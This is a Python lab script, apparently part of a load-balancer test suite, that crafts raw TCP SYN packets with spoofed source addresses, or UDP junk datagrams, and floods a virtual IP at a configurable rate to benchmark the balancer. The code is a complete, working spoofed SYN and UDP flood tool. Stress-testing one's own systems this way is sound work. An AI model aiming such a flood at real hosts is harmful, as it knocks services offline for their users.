"""A spoofed SYN flood at a VIP from a client namespace (tests and benches).

    python -m lab.synflood VIP --port 80 --rate 15000 --duration 6

Sources are random addresses of the clients' subnet (198.51.100.110-250: the address plan,
none of them a lab host) with random ports and sequence numbers: every SYN opens a new flow
and none of them ever completes its handshake, as with a flood from spoofed sources. The
packets are built before the clock starts and sent through one raw socket (``IP_HDRINCL``),
paced in batches to ``--rate`` (0: as fast as this process can). Bounded by ``--duration``
and ``--count``. Prints {"sent": n, "seconds": s, "rate": n/s}.

``--kind junk`` sends 64-byte UDP datagrams (IPv4 + UDP + 36 bytes of zeros) from the same
random sources instead: at a VIP port without a virtual server, packets the balancer must read
and drop (lab/saturation.py: a junk flood must not delay the adverts).
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import struct
import time

from lab.malformed import checksum

SOURCES = range(110, 251)  # 198.51.100.110-250: above the lab clients (.100-.102)
BATCH = 500


def syn(src: str, sport: int, dst: str, dport: int, seq: int) -> bytes:
    """One IPv4 + TCP SYN with valid checksums (MSS option, as a real stack sends)."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    options = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (6 << 4), 0x02, 64240, 0, 0) + options
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP,
                     0, s, d)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def junk(src: str, sport: int, dst: str, dport: int) -> bytes:
    """One 64-byte IPv4 + UDP datagram (UDP checksum 0: none, as RFC 768 allows)."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    payload = bytes(64 - 28)
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, socket.IPPROTO_UDP,
                     0, s, d)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("vip")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--kind", choices=("syn", "junk"), default="syn",
                    help="TCP SYNs (default) or 64-byte UDP datagrams")
    ap.add_argument("--rate", type=float, default=0.0, help="SYN/s; 0: as fast as possible")
    ap.add_argument("--duration", type=float, default=5.0)
    ap.add_argument("--count", type=int, default=5_000_000)
    ap.add_argument("--distinct", type=int, default=50_000,
                    help="distinct packets built (sent round robin)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--batch", type=int, default=BATCH,
                    help=f"SYNs sent back to back between two pauses of the pacing "
                         f"(default {BATCH}); smaller: a smoother rate")
    args = ap.parse_args()
    rnd = random.Random(args.seed)
    packets = [syn(f"198.51.100.{rnd.choice(SOURCES)}", rnd.randrange(1024, 65536), args.vip,
                   args.port, rnd.getrandbits(32)) if args.kind == "syn"
               else junk(f"198.51.100.{rnd.choice(SOURCES)}", rnd.randrange(1024, 65536),
                         args.vip, args.port)
               for _ in range(min(args.distinct, args.count))]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    dest = (args.vip, 0)
    send = sock.sendto
    sent, n = 0, len(packets)
    batch = max(1, args.batch)
    start = time.monotonic()
    end = start + args.duration
    while sent < args.count:
        now = time.monotonic()
        if now >= end:
            break
        if args.rate and sent > (now - start) * args.rate:
            time.sleep(min(batch / args.rate, end - now))
            continue
        i, stop = sent, min(sent + batch, args.count)
        while i < stop:
            try:
                while i < stop:
                    send(packets[i % n], dest)
                    i += 1
            except OSError:  # ENOBUFS: the queue is full, the flood as fast as the link
                i += 1
        sent = stop
    seconds = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(seconds, 3),
                      "rate": round(sent / seconds) if seconds else 0}))


if __name__ == "__main__":
    main()
